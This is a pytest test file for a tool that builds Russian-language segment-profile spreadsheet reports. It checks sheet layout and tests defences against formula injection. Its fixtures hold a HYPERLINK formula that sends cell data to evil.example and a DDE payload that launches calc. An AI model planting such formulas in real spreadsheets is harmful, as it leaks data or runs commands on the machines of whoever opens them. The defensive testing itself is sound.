"""XLSX: a sheet per section, the profile table with filters and frozen header, safe text."""

from __future__ import annotations

import copy
import io
from pathlib import Path

import pyarrow.parquet as pq
import pytest
from openpyxl import load_workbook

from segprofile import pipeline
from segprofile.model.study import Study
from segprofile.report.format import neutralise
from sp_factories import SMALL_STUDY, make_records

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"нажми")'


@pytest.fixture(scope="module")
def workbook(tmp_path_factory: pytest.TempPathFactory):  # type: ignore[no-untyped-def]
    doc = copy.deepcopy(SMALL_STUDY)
    doc["features"][0]["label"] = EVIL
    doc["features"][0]["value_labels"]["epgu"] = "+7 ЕПГУ"
    doc["features"][3]["value_labels"] = {"city": "@город", "town": "-посёлок", "rural": "\tсело"}
    study = Study.model_validate(doc)
    data = tmp_path_factory.mktemp("xlsx")
    pq.write_table(make_records(2000, seed=3), data / "records.parquet")
    profile = pipeline.profile_study(
        pipeline.Workspace.in_folder(tmp_path_factory.mktemp("ws"), data_dir=data), study
    )
    content = pipeline.render_report(profile, study, "xlsx")
    return load_workbook(io.BytesIO(content)), profile


def all_strings(wb) -> list[str]:  # type: ignore[no-untyped-def]
    return [
        c.value
        for ws in wb.worksheets
        for row in ws.iter_rows()
        for c in row
        if isinstance(c.value, str)
    ]


def test_neutralise() -> None:
    assert neutralise("=1+1") == "'=1+1"
    assert neutralise("-5") == "'-5"
    assert neutralise("-2+3+cmd|' /C calc'!A0") == "'-2+3+cmd|' /C calc'!A0"
    assert neutralise("\tx") == "'\tx"
    assert neutralise("Обычный текст") == "Обычный текст"


def test_no_cell_can_start_a_formula(workbook) -> None:  # type: ignore[no-untyped-def]
    wb, _ = workbook
    strings = all_strings(wb)
    assert any(s == "'" + EVIL for s in strings)
    assert any(s == "'+7 ЕПГУ" for s in strings)
    assert any(s == "'@город" for s in strings)
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate)
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(("=", "+", "-", "@", "\t", "\r"))


def test_profile_sheet_is_the_profile_table(workbook) -> None:  # type: ignore[no-untyped-def]
    wb, profile = workbook
    assert wb.sheetnames[0] == "Титул"
    assert wb.sheetnames[1] == "Профиль"
    ws = wb["Профиль"]
    header = [c.value for c in ws[2]]
    assert header[:3] == ["Признак", "Сегмент", "Ёмкость"]  # no key: the labels name it
    assert "Слепая зона" in header
    assert "Ранг приоритета" in header
    assert ws.freeze_panes == "A3"
    assert ws.auto_filter.ref.startswith("A2:")
    age = profile.by_feature[1]
    rows = {r[1]: r for r in ws.iter_rows(min_row=3, values_only=True) if r[0] == age.label}
    for seg in age.segments:
        assert rows[seg.label][2] == seg.capacity  # numbers stay numbers
    assert ws.cell(row=3, column=4).number_format == "0.0%"
    # «Почему» is wide, wherever it is (a profile without a survey has no survey columns).
    from openpyxl.utils import get_column_letter

    why = get_column_letter(header.index("Почему") + 1)
    assert ws.column_dimensions[why].width >= 40
    assert "CSAT по опросу" not in header
    assert profile.survey is None


def test_a_sheet_per_section_with_russian_text(workbook) -> None:  # type: ignore[no-untyped-def]
    wb, profile = workbook
    names = " ".join(wb.sheetnames)
    for part in ("Область", "Роли", "Признаки", "Сегменты", "Гипотезы", "Происхождение"):
        assert part in names
    cover = wb["Титул"]
    assert cover["A2"].value == "Малое исследование"
    provenance = next(ws for ws in wb.worksheets if "Происхождение" in ws.title)
    values = [c for row in provenance.iter_rows(values_only=True) for c in row if c]
    assert profile.provenance.data_fingerprint in values


def test_internal_accounting_example(tmp_path: Path) -> None:
    study = pipeline.example_study("internal-accounting")
    pipeline.generate_demo_data("internal-accounting", tmp_path, rows=800)
    profile = pipeline.profile_study(
        pipeline.Workspace.in_folder(tmp_path / "ws", data_dir=tmp_path), study
    )
    wb = load_workbook(io.BytesIO(pipeline.render_report(profile, study, "xlsx")))
    assert wb["Титул"]["A1"].value == "Профиль внутреннего клиента"
    roles = next(ws for ws in wb.worksheets if "Роли" in ws.title)
    texts = " ".join(
        c for row in roles.iter_rows(values_only=True) for c in row if isinstance(c, str)
    )
    assert "Внутренний клиент" in texts


def test_cli_writes_the_report(tmp_path: Path) -> None:
    from segprofile.cli import run
    from segprofile.model.spec_yaml import dump_study

    study_file = tmp_path / "study.yaml"
    study_file.write_text(dump_study(Study.model_validate(SMALL_STUDY)), encoding="utf-8")
    pq.write_table(make_records(500, seed=1), tmp_path / "records.parquet")
    out = tmp_path / "out" / "report.xlsx"
    args = ["report", str(study_file), "--data", str(tmp_path), "--format", "xlsx", "--out"]
    assert run([*args, str(out)]) == 0
    assert load_workbook(out)["Титул"]["A2"].value == "Малое исследование"
    assert run([*args[:-3], "--format", "odt", "--out", str(out)]) == 2
